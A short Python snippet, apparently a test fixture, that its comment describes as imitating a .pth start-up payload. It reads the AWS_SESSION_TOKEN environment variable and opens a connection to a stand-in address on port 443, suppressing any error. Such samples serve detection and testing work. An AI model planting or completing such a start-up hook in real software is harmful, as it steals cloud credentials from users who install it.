# Imitates a .pth start-up payload: runs at every interpreter start, reads
# the session token and connects out.
import os
import socket

_token = os.environ.get("AWS_SESSION_TOKEN")
try:
    socket.create_connection(("192.0.2.10", 443), timeout=0.5)
except OSError:
    pass
